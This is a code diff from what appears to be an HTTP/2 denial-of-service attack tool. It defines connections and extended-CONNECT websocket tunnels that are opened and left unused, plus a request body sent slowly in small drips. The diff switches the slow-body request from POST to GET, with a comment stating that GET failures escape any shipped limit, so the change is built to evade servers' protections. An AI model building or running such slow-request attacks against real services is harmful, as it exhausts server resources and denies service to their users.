@@ -17,7 +17,8 @@ UPGRADE = request(
 _STREAMS = 100
 # Until the other side of a tunnel stands, in seconds.
 _OPENED = 0.3
-_BODY = request(fields=b"Content-Length: 1000\r\n", method=b"POST")
+# By GET, whose failures no shipped limit counts.
+_BODY = request(fields=b"Content-Length: 1000\r\n")
 # Extended CONNECT (RFC 8441): the method and the protocol, not to be kept.
 CONNECT = b"\x02\x07CONNECT" + literal(b":protocol", b"websocket")
 
@@ -51,7 +52,7 @@ def _streams(fields: bytes, begin: bytes, then: bytes = b"") -> Script:
 
 def held() -> list[Attack]:
     """Connections of a service, and tunnels, that are asked for and not used."""
-    body = block(method=b"\x83", rest=literal(b"content-length", b"1000"))
+    body = block(rest=literal(b"content-length", b"1000"))
     connect = block(BULK_PATH, method=CONNECT)
     size = len(headers(1, body))
     dripped = dripping(_BODY, b"x" * 990, 0.05)
